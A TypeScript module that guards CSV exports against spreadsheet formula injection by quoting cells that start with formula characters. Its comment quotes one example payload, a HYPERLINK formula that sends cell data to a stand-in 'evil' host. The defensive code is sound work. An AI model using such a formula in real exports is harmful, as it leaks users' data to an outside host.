import { stringify } from 'csv-stringify/sync';

/**
 * CSV that is safe to open in a spreadsheet. Every CSV Recto writes goes through here (the
 * file drop's metadata.csv, exports), so no cell can be missed.
 *
 * A spreadsheet reads a cell starting with `=`, `+`, `-` or `@` as a formula, and some also
 * after a leading tab or CR: `=HYPERLINK("http://evil/?"&A1,"Click")` in an uploader's name
 * would send patient data away when clicked. As OWASP's "CSV Injection" advice says, such a
 * cell gets a single quote in front, which spreadsheets show as text and do not evaluate.
 * Quoting (commas, quotes, line breaks inside a cell) is csv-stringify's. Neutralising is
 * idempotent: a cell read back from a file Recto wrote is written back unchanged.
 */

const FORMULA_START = /^[=+\-@\t\r]/;

/** One cell's text, neutralised if a spreadsheet would read it as a formula. */
export function safeCsvCell(value: string | number | boolean | null | undefined): string {
  if (value === null || value === undefined) return '';
  const text = String(value);
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** A header row of `columns` then one row per record, every cell through safeCsvCell; CRLF line ends (RFC 4180). */
export function toSafeCsv<Column extends string>(
  records: ReadonlyArray<Readonly<Record<Column, string | number | boolean | null | undefined>>>,
  columns: readonly Column[],
): string {
  const rows = records.map((record) => columns.map((column) => safeCsvCell(record[column])));
  return stringify([columns.map((column) => safeCsvCell(column)), ...rows], { record_delimiter: 'windows' });
}
